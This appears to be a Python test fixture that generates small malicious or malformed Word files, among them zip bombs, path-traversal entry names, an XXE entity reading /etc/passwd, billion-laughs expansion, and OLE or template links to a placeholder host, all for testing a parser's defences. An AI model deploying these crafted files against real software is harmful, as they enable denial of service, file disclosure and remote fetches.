"""Files that mean harm, or are broken: each small, made here, by name."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from functools import partial

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
RELS = "application/vnd.openxmlformats-package.relationships+xml"
DOCUMENT = "word/document.xml"
NS = "http://schemas.openxmlformats.org/package/2006/"
Parts = dict[str, str | bytes]


def body(content: str) -> str:
    return f'<w:document xmlns:w="{W}"><w:body>{content}</w:body></w:document>'


def types(main: str = MAIN, more: str = "") -> str:
    return (
        f'<Types xmlns="{NS}content-types"><Default Extension="rels" ContentType="{RELS}"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{DOCUMENT}" ContentType="{main}"/>{more}</Types>'
    )


def rels(*links: tuple[str, str, str]) -> str:
    """Each link is a type, a target and a mode."""
    listed = "".join(
        f'<Relationship Id="r{n}" Type="{OFFICE}/{kind}" Target="{target}"'
        f"{f' TargetMode={chr(34)}{mode}{chr(34)}' if mode else ''}/>"
        for n, (kind, target, mode) in enumerate(links)
    )
    return f'<Relationships xmlns="{NS}relationships">{listed}</Relationships>'


def parts(content: str = "<w:p/>", **more: str | bytes) -> Parts:
    return {
        "[Content_Types].xml": types(),
        "_rels/.rels": rels(("officeDocument", DOCUMENT, "")),
        DOCUMENT: body(content),
        **more,
    }


def packed(files: Mapping[str, str | bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", method) as target:
        for name, data in files.items():
            # Through the entry, as `writestr` itself would mend the name.
            entry = zipfile.ZipInfo("x")
            entry.filename = name
            entry.compress_type = method
            target.writestr(entry, data)
    return written.getvalue()


def docx(content: str = "<w:p/>", **more: str | bytes) -> bytes:
    return packed(parts(content, **more))


def without(part: str) -> bytes:
    return packed({name: data for name, data in parts().items() if name != part})


def linked(kind: str, target: str, mode: str = "External", part: str = "document") -> bytes:
    return docx(**{f"word/_rels/{part}.xml.rels": rels((kind, target, mode))})


def text(paragraph: str) -> str:
    return f"<w:p><w:r><w:t>{paragraph}</w:t></w:r></w:p>"


def spaces(megabytes: int) -> bytes:
    """So many megabytes of spaces, deflated."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(b" " * (1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    return block * megabytes + packer.flush()


def raw(entries: list[tuple[str, bytes, int, int, int]], *, at: Mapping[str, int] = {}) -> bytes:
    """A zip by hand, of names, deflated bytes, CRCs, unpacked sizes and offsets in `at`."""
    out, directory = b"", b""
    for name, data, crc, size, flags in entries:
        offset = at.get(name, len(out))
        said = struct.pack("<5H3L2H", 20, flags, 8, 0, 33, crc, len(data), size, len(name), 0)
        if name not in at:
            out += b"PK\3\4" + said + name.encode() + data
        directory += b"PK\1\2" + struct.pack("<H", 20) + said
        directory += struct.pack("<3H2L", 0, 0, 0, 0, offset) + name.encode()
    count = len(entries)
    end = struct.pack("<4H2LH", 0, 0, count, count, len(directory), len(out), 0)
    return out + directory + b"PK\5\6" + end


def entry(name: str, data: str | bytes, **said: int) -> tuple[str, bytes, int, int, int]:
    data = data.encode() if isinstance(data, str) else data
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    squeezed = packer.compress(data) + packer.flush()
    crc, size = said.get("crc", zlib.crc32(data)), said.get("size", len(data))
    return name, squeezed, crc, size, said.get("flags", 0)


def entries(**said: int) -> list[tuple[str, bytes, int, int, int]]:
    """Those of an ordinary document; `said` is told of its main part."""
    return [entry(n, d, **(said if n == DOCUMENT else {})) for n, d in parts().items()]


def swollen(says: int) -> bytes:
    """A main part of 500 MB that says it has so many bytes."""
    others = [each for each in entries() if each[0] != DOCUMENT]
    return raw([*others, (DOCUMENT, spaces(500), 0, says, 0)])


def overlapping() -> bytes:
    """All parts are one and the same bytes (the zip bomb of D. Fifield)."""
    one = spaces(1)
    many = [(f"word/part{n}.xml", one, 0, 1000, 0) for n in range(1000)]
    return raw([*entries(), *many], at={each[0]: 0 for each in many[1:]})


def bomb() -> bytes:
    one = spaces(1)
    return raw([*entries(), *((f"word/part{n}.xml", one, 0, 1 << 20, 0) for n in range(600))])


def many_parts() -> bytes:
    return packed({**parts(), **{f"word/{n}.xml": "" for n in range(10_000)}})


def hidden(real: str, told: str) -> bytes:
    """A part whose own header names it otherwise than the directory does."""
    data = docx(**{real: "<a/>"})
    at = data.index(real.encode())
    return data[:at] + told.encode() + data[at + len(told) :]


def encrypted() -> bytes:
    return raw(entries(flags=1))


def bombed(entity: str) -> Parts:
    return {**parts(), DOCUMENT: entity + body(text("&a;"))}


LAUGHS = (
    "<!DOCTYPE x ["
    '<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    + '<!ENTITY a "&a9;">]>'
)
PASSWD = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
REMOTE = '<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd">'
CELL = "<w:tbl><w:tr><w:tc>", "<w:p/></w:tc></w:tr></w:tbl>"


def numbered(content: str, styles: str = "", level: str = "") -> bytes:
    """A document with styles, and one list of one level."""
    kind = MAIN.replace("document.main", "{}")
    more = "".join(
        f'<Override PartName="/word/{name}.xml" ContentType="{kind.format(name)}"/>'
        for name in ("styles", "numbering")
    )
    listed = f'<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0">{level}</w:lvl></w:abstractNum>'
    listed += '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>'
    links = rels(("styles", "styles.xml", ""), ("numbering", "numbering.xml", ""))
    return packed(
        {
            **parts(content),
            "[Content_Types].xml": types(more=more),
            "word/_rels/document.xml.rels": links,
            "word/styles.xml": f'<w:styles xmlns:w="{W}">{styles}</w:styles>',
            "word/numbering.xml": f'<w:numbering xmlns:w="{W}">{listed}</w:numbering>',
        }
    )


def based(name: str, on: str) -> str:
    named = f'w:type="paragraph" w:styleId="{name}"'
    return f'<w:style {named}><w:basedOn w:val="{on}"/></w:style>'


def styled(name: str) -> str:
    return f'<w:p><w:pPr><w:pStyle w:val="{name}"/></w:pPr><w:r><w:t>a</w:t></w:r></w:p>'


ITEM = (
    '<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr>'
    "<w:r><w:t>a</w:t></w:r></w:p>"
)


def nested(begin: str, end: str, times: int, inside: str = "") -> bytes:
    return docx(begin * times + inside + end * times)


HOSTILE: dict[str, Callable[[], bytes]] = {
    # A zip that is none
    "empty": lambda: b"",
    "html": lambda: b"<!DOCTYPE html><html><body>1. A law.</body></html>",
    "rtf": lambda: b"{\\rtf1\\ansi A law.}",
    "pdf": lambda: b"%PDF-1.7\n",
    "noise": lambda: bytes(range(256)) * 40,
    "password": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000),
    "encrypted-part": encrypted,
    "xlsx": lambda: packed({**parts(), "[Content_Types].xml": types(SHEET)}),
    "odt": lambda: packed({"mimetype": "application/vnd.oasis.opendocument.text", "a.xml": "<a/>"}),
    "epub": lambda: packed({"mimetype": "application/epub+zip", "META-INF/container.xml": "<a/>"}),
    "cut-in-the-directory": lambda: docx()[:-30],
    "cut-in-the-end": lambda: docx()[:-3],
    "cut-in-the-middle": lambda: docx()[:400],
    "cut-at-the-start": lambda: docx()[200:],
    "bzip2": lambda: packed(parts(), zipfile.ZIP_BZIP2),
    # A zip that lies
    "checksum": lambda: raw(entries(crc=1)),
    "longer-than-told": lambda: raw(entries(size=10)),
    "shorter-than-told": lambda: raw(entries(size=100_000)),
    "another-name-inside": lambda: hidden("word/aaaa.xml", "word/bbbb.xml"),
    "too-many-parts": many_parts,
    "too-large-unpacked": bomb,
    "overlapping-parts": overlapping,
    "500-mb": partial(swollen, 500 << 20),
    "500-mb-that-says-1-kb": partial(swollen, 1024),
    # Names
    "name-above": lambda: docx(**{"../../evil.xml": "<a/>"}),
    "name-absolute": lambda: docx(**{"/etc/evil.xml": "<a/>"}),
    "name-backslash": lambda: docx(**{"word\\..\\evil.xml": "<a/>"}),
    "name-drive": lambda: docx(**{"C:evil.xml": "<a/>"}),
    "name-percent": lambda: docx(**{"word/%2e%2e%2fevil.xml": "<a/>"}),
    "name-null": lambda: docx(**{"word/a.xml\0.exe": "<a/>"}),
    "name-twice-but-for-case": lambda: docx(**{"Word/DOCUMENT.xml": body(text("other"))}),
    # What is missing
    "no-content-types": lambda: without("[Content_Types].xml"),
    "no-relationships": lambda: without("_rels/.rels"),
    "no-main-part": lambda: without(DOCUMENT),
    "no-body": lambda: packed({**parts(), DOCUMENT: f'<w:document xmlns:w="{W}"/>'}),
    "another-root": lambda: packed({**parts(), DOCUMENT: "<html/>"}),
    "two-main-parts": lambda: packed(
        {**parts(), "_rels/.rels": rels(*[("officeDocument", DOCUMENT, "")] * 2)}
    ),
    "main-part-outside": lambda: packed(
        {**parts(), "_rels/.rels": rels(("officeDocument", "http://192.0.2.1/a.xml", "External"))}
    ),
    "notes-that-lead-nowhere": lambda: docx(
        **{"word/_rels/document.xml.rels": rels(("footnotes", "nowhere.xml", ""))}
    ),
    # XML
    "billion-laughs": lambda: packed(bombed(LAUGHS)),
    "external-entity": lambda: packed(bombed(PASSWD)),
    "remote-dtd": lambda: packed(bombed(REMOTE)),
    "entity-behind-comments": lambda: packed(bombed("<!-- a -->" * 1000 + LAUGHS)),
    "entity-in-relationships": lambda: packed(
        {**parts(), "_rels/.rels": LAUGHS + rels(("officeDocument", DOCUMENT, ""))}
    ),
    "entity-in-utf-16": lambda: packed({**parts(), DOCUMENT: (PASSWD + body("")).encode("utf-16")}),
    "ebcdic": lambda: packed(
        {
            **parts(),
            DOCUMENT: ('<?xml version="1.0" encoding="IBM037"?>' + body("")).encode("cp037"),
        }
    ),
    "declared-otherwise": lambda: packed(
        {**parts(), DOCUMENT: '<?xml version="1.0" encoding="windows-1251"?>' + body("")}
    ),
    "nested-tables": partial(nested, *CELL, 5000),
    "nested-runs": partial(nested, "<w:smartTag>", "</w:smartTag>", 100_000),
    "nested-to-just-too-deep": partial(nested, "<w:sdt>", "</w:sdt>", 230),
    "a-million-paragraphs": lambda: docx("<w:p/>" * 1_000_000),
    "ten-million-tags": lambda: docx("<w:p><w:r/></w:p>" * 3_000_000),
    # What would be run or fetched
    "macro-type": lambda: packed({**parts(), "[Content_Types].xml": types(MACROS)}),
    "macro-part": lambda: docx(**{"word/vbaProject.bin": b"\0"}),
    "macro-part-under-another-name": lambda: packed(
        {
            **parts(),
            "[Content_Types].xml": types(
                MAIN,
                '<Override PartName="/word/x.bin" '
                'ContentType="application/vnd.ms-office.vbaProject"/>',
            ),
        }
    ),
    "ole-link": lambda: linked("oleObject", "http://192.0.2.1/x.html!x-usc"),
    "ole-link-to-a-server": lambda: linked("oleObject", r"file:///\\192.0.2.1\x.xlsx"),
    "subdocument": lambda: linked("subDocument", "http://192.0.2.1/sub.docx"),
    "frame": lambda: linked("frame", "http://192.0.2.1/f.html", part="webSettings"),
    "chunk": lambda: linked("aFChunk", "http://192.0.2.1/c.html"),
    "mail-merge": lambda: linked("mailMergeSource", "http://192.0.2.1/people", part="settings"),
    "not-quite-a-hyperlink": lambda: linked("hyperlink/x", "http://192.0.2.1/"),
}
"""Files that are refused."""

HARMLESS: dict[str, Callable[[], bytes]] = {
    "hyperlink": lambda: linked("hyperlink", "http://192.0.2.1/"),
    "own-template": lambda: linked(
        "attachedTemplate", "file:///C:/Users/a/Normal.dotm", part="settings"
    ),
    "own-template-of-a-drive": lambda: linked(
        "attachedTemplate", r"C:\Program Files\Normal.dotm", part="settings"
    ),
    "own-template-of-a-mac": lambda: linked(
        "attachedTemplate", "file://localhost/Users/a/Normal.dotm", part="settings"
    ),
    "template-over-http": lambda: linked(
        "attachedTemplate", "http://192.0.2.1/t.dotm", part="settings"
    ),
    "template-over-smb": lambda: linked(
        "attachedTemplate", r"file:///\\192.0.2.1\t.dotm", part="settings"
    ),
    "template-over-localhost": lambda: linked(
        "attachedTemplate", "file://localhost//192.0.2.1/t.dotm", part="settings"
    ),
    "template-after-a-space": lambda: linked("attachedTemplate", " http://192.0.2.1/t.dotm"),
    "workbook-of-a-chart": lambda: linked("oleObject", r"file:///C:\Users\a\x.xlsx"),
    "recipients-of-a-letter": lambda: linked(
        "mailMergeSource", "file:///C:/people.mdb", part="settings"
    ),
    "linked-image": lambda: linked("image", "http://192.0.2.1/pixel.png"),
    "linked-image-without-a-mode": lambda: linked("image", "http://192.0.2.1/pixel.png", ""),
    "utf-16": lambda: packed({**parts(), DOCUMENT: body(text("5. Мемлекеттік")).encode("utf-16")}),
    "relationships-in-a-circle": lambda: docx(
        **{
            "word/_rels/document.xml.rels": rels(("customXml", "a.xml", "")),
            "word/a.xml": "<a/>",
            "word/_rels/a.xml.rels": rels(("customXml", "document.xml", "")),
        }
    ),
    "deep-but-not-too-deep": partial(nested, *CELL, 60),
    "deep-controls": partial(
        nested, "<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>", 90, "<w:p/>" * 2000
    ),
    "fields-that-never-end": lambda: docx(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:fldChar w:fldCharType="separate"/>'
        "<w:t>a</w:t></w:r></w:p>" * 5_000
    ),
    "insertions-side-by-side": lambda: docx(
        "<w:p>" + '<w:ins w:author="a"><w:r><w:t>б</w:t></w:r></w:ins>' * 25_000 + "</w:p>"
    ),
    "marks-that-all-join": lambda: docx(
        '<w:p><w:pPr><w:rPr><w:del w:author="a"/></w:rPr></w:pPr><w:r><w:t>1</w:t></w:r></w:p>'
        * 7_500
    ),
    "one-line-again-and-again": lambda: docx(text("5. Мемлекеттік қызметшілер:") * 5_000),
    "all-lines-alike-but-for-numbers": lambda: docx(
        "".join(text(f"{n}. Мемлекеттік қызметшілер") for n in range(5_000))
    ),
    "bookmarks-that-never-end": lambda: docx(
        "<w:p>"
        + "".join(
            f'<w:bookmarkStart w:id="{n}" w:name="p_{n}"/><w:r><w:t>a</w:t></w:r>'
            for n in range(10_000)
        )
        + "</w:p>"
    ),
    "styles-in-a-circle": lambda: numbered(styled("a"), based("a", "b") + based("b", "a")),
    "styles-in-a-long-chain": lambda: numbered(
        "".join(styled(f"s{n}") for n in range(1000)),
        "".join(based(f"s{n}", f"s{n + 1}") for n in range(1000)),
    ),
    "a-number-of-two-billion": lambda: numbered(
        ITEM * 1000,
        level='<w:start w:val="2000000000"/><w:numFmt w:val="upperRoman"/><w:lvlText w:val="%1."/>',
    ),
    "a-number-of-a-hundred-thousand-signs": lambda: numbered(
        ITEM * 1000, level=f'<w:lvlText w:val="{"%1" * 100_000}"/>'
    ),
    "a-grid-of-two-billion-columns": lambda: docx(
        '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2147483647"/></w:tcPr><w:p/></w:tc></w:tr>'
        "</w:tbl>" * 1000
    ),
    "a-word-of-nine-megabytes": lambda: docx(text("ж" * 4_500_000)),
    "nine-megabytes-of-words": lambda: docx(text("бір " * 1_200_000)),
}
"""Files that are read, within the same time and memory."""
